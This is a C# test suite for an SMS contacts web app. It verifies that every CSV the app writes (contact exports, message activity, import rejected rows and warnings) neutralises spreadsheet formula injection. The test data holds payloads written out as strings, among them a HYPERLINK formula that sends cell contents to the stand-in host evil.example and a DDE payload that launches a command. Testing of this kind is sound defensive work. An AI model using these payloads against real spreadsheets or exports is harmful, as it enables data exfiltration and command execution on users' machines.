using System.Globalization;
using System.Text;
using CsvHelper;
using Microsoft.EntityFrameworkCore;
using SmsContacts.Tests.Features.Import;
using SmsContacts.Web.Domain;
using SmsContacts.Web.Features.Export;
using SmsContacts.Web.Infrastructure.Csv;

namespace SmsContacts.Tests.Infrastructure.Csv;

/// <summary>
/// Every CSV file the app writes, downloaded over HTTP with formula payloads in every cell a user or a
/// contact can fill: the contact export (profile fields, custom field names and values, list names), a
/// contact's message activity, an import's rejected rows and its warnings. No view of any cell starts a
/// formula (<see cref="SpreadsheetView"/>), and the contact export reads back exactly.
/// </summary>
public sealed class CsvOutputsTests : IAsyncLifetime
{
    /// <summary>OWASP's payloads and the ways around a guard that looks only at the first character.</summary>
    private static readonly string[] Payloads =
    [
        "=1+2", "=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
        "a;=1+1", "a,=1+1", "a|=1+1", "a\t=1+1", "a\n=1+1", "a; =1+1", "a;\"=1+1", " =1+1", "\u00A0=1+1", "\u200B@x",
        "\t=1", "\r=1", "\uFF1D1+1", "'=already", "x;'=already", "=1+2\";=1+2", "-5;x",
    ];

    private readonly AppFactory _app = new();
    private SenderCode _code = null!;
    private ContactList _list = null!;

    public async Task InitializeAsync()
    {
        _code = await _app.Data.SenderCodeAsync("55123");
        _list = await _app.Data.ListAsync(_code.Id, "=List;@x");
        await _app.WithDbAsync(async db =>
        {
            var fields = Payloads.Take(3).Select(name => new CustomFieldDefinition { SenderCodeId = _code.Id, Name = "F" + name, Type = CustomFieldType.Text, CreatedUtc = ExportFixtureTime }).ToList();
            fields.Add(new CustomFieldDefinition { SenderCodeId = _code.Id, Name = "=Field", Type = CustomFieldType.Text, CreatedUtc = ExportFixtureTime });
            db.CustomFields.AddRange(fields);
            await db.SaveChangesAsync();
            for (var i = 0; i < Payloads.Length; i++)
            {
                var phone = TestPhones.Us(i);
                var contact = new Contact
                {
                    SenderCodeId = _code.Id,
                    Phone = phone,
                    Email = Payloads[(i + 1) % Payloads.Length],
                    FirstName = Payloads[i],
                    LastName = Payloads[(i + 2) % Payloads.Length],
                    PostalCode = Payloads[(i + 3) % Payloads.Length],
                    CreatedUtc = ExportFixtureTime,
                    UpdatedUtc = ExportFixtureTime,
                };
                contact.Subscriptions.Add(new Subscription { SenderCodeId = _code.Id, ListId = _list.Id, Phone = phone, SubscribedUtc = ExportFixtureTime, Method = SubscribeMethod.Keyword, Keyword = Payloads[(i + 4) % Payloads.Length] });
                foreach (var (field, f) in fields.Select((field, f) => (field, f)))
                {
                    contact.CustomFieldValues.Add(new CustomFieldValue { FieldId = field.Id, Value = Payloads[(i + 5 + f) % Payloads.Length] });
                }

                db.Contacts.Add(contact);
            }

            await db.SaveChangesAsync();
            var first = await db.Contacts.SingleAsync(c => c.Phone == TestPhones.Us(0));
            db.Messages.AddRange(Payloads.Select((body, i) => new Message
            {
                SenderCodeId = _code.Id,
                ContactId = first.Id,
                Phone = first.Phone,
                Direction = i % 2 == 0 ? MessageDirection.Inbound : MessageDirection.Outbound,
                Body = body,
                CreatedUtc = ExportFixtureTime.AddMinutes(i),
                DeliveredUtc = ExportFixtureTime.AddMinutes(i),
                Status = i % 2 == 0 ? DeliveryStatus.Received : DeliveryStatus.Succeeded,
            }));
            await db.SaveChangesAsync();
        });
    }

    public Task DisposeAsync() => _app.DisposeAsync().AsTask();

    private static DateTime ExportFixtureTime => new(2026, 3, 1, 8, 30, 0, DateTimeKind.Utc);

    [Fact]
    public async Task ContactExport_GuardsEveryCell_AndReadsBackExactly()
    {
        using var admin = await _app.SignInAsync();
        await admin.SubmitFormAsync("/exports/new?tab=contacts", "form#configure-export", []);
        var export = await _app.WithDbAsync(db => db.Exports.SingleAsync());
        await _app.WithServiceAsync<ExportContactsJob, bool>(async job => { await job.RunAsync(export.Id, CancellationToken.None); return true; });
        var path = Path.Combine(_app.DataDirectory, "exports", ExportRuns.FileName(export.Id));

        var (headers, rows) = Read(await File.ReadAllBytesAsync(path));

        AssertEveryCellSafe(headers, rows, "contact export");
        var contacts = await _app.WithDbAsync(db => db.Contacts.AsNoTracking().Include(c => c.CustomFieldValues).Include(c => c.Subscriptions).ToListAsync());
        var fields = await _app.WithDbAsync(db => db.CustomFields.AsNoTracking().OrderBy(f => f.Id).ToListAsync());
        Assert.Equal(fields.Select(f => f.Name), headers.Skip(ContactExportWriter.Columns.Count).Select(CsvFormulaGuard.Restore));
        foreach (var contact in contacts)
        {
            var row = rows.Single(r => r[0] == contact.Phone);
            Assert.Equal(_list.Name, CsvFormulaGuard.Restore(row[1]));
            Assert.Equal(
                [contact.Email, contact.FirstName, contact.LastName, contact.PostalCode, contact.Subscriptions.Single().Keyword],
                new[] { row[6], row[7], row[8], row[9], row[12] }.Select(CsvFormulaGuard.Restore));
            Assert.Equal(
                fields.Select(f => contact.CustomFieldValues.Single(v => v.FieldId == f.Id).Value),
                row.Skip(ContactExportWriter.Columns.Count).Select(CsvFormulaGuard.Restore));
        }
    }

    [Fact]
    public async Task MessageActivityExport_GuardsEveryCell()
    {
        var contactId = await _app.WithDbAsync(db => db.Contacts.Where(c => c.Phone == TestPhones.Us(0)).Select(c => c.Id).SingleAsync());
        using var admin = await _app.SignInAsync();

        var (headers, rows) = Read(await (await admin.GetAsync($"/contacts/{contactId}/activity/export")).Content.ReadAsByteArrayAsync());

        Assert.Equal(Payloads.Length, rows.Count);
        AssertEveryCellSafe(headers, rows, "message activity");
    }

    [Fact]
    public async Task ImportReports_GuardEveryCell_OfRejectedRowsAndOfWarnings()
    {
        var driver = await ImportDriver.StartAsync(_app, _code);
        var file = new StringBuilder();
        using (var writer = new StringWriter(file))
        using (var csv = CsvWriter.Create(writer, CsvWriterOptions.Default with { ValidateFieldCount = false }))
        {
            csv.WriteHeader(["Phone", "Email"]);
            foreach (var payload in Payloads)
            {
                // Rejected: the phone cell is the payload. Imported with a warning: one cell more than the header.
                csv.WriteField(payload);
                csv.WriteField("x@example.com");
                csv.EndRecord();
                csv.WriteField(TestPhones.UsTyped(100 + Array.IndexOf(Payloads, payload)));
                csv.WriteField("y@example.com");
                csv.WriteField(payload);
                csv.EndRecord();
            }

            csv.Flush();
        }

        var import = await driver.ImportAsync(file.ToString(), ImportDriver.Settings(_list.Id));

        var (rejectedHeaders, rejected) = Read(await (await driver.Client.GetAsync($"/imports/{import.Id}/rejected.csv")).Content.ReadAsByteArrayAsync());
        var (warningHeaders, warnings) = Read(await (await driver.Client.GetAsync($"/imports/{import.Id}/warnings.csv")).Content.ReadAsByteArrayAsync());
        Assert.Equal(Payloads.Length, rejected.Count);
        Assert.Equal(Payloads.Length, warnings.Count);
        AssertEveryCellSafe(rejectedHeaders, rejected, "rejected rows");
        AssertEveryCellSafe(warningHeaders, warnings, "warnings");
    }

    private static void AssertEveryCellSafe(IReadOnlyList<string> headers, List<string[]> rows, string file)
    {
        foreach (var (cell, where) in headers.Select(h => (h, "header")).Concat(rows.SelectMany((r, i) => r.Select(c => (c, $"row {i + 1}")))))
        {
            SpreadsheetView.AssertNoFormula(cell, $"{file}, {where}");
        }
    }

    /// <summary>Reads a file we wrote as RFC 4180 with commas (not guessing the separator, which the payloads would mislead).</summary>
    private static (IReadOnlyList<string> Headers, List<string[]> Rows) Read(byte[] bytes)
    {
        var bom = bytes.Length >= 3 && bytes[0] == 0xEF && bytes[1] == 0xBB && bytes[2] == 0xBF;
        using var csv = CsvReader.Create(bom ? bytes[3..] : bytes, CsvReaderOptions.Default with { Separator = ',' });
        var headers = csv.Headers.ToList();
        var rows = new List<string[]>();
        while (csv.Read())
        {
            Assert.Equal(headers.Count, csv.FieldCount);
            rows.Add(Enumerable.Range(0, csv.FieldCount).Select(i => csv.GetString(i)).ToArray());
        }

        return (headers, rows);
    }
}
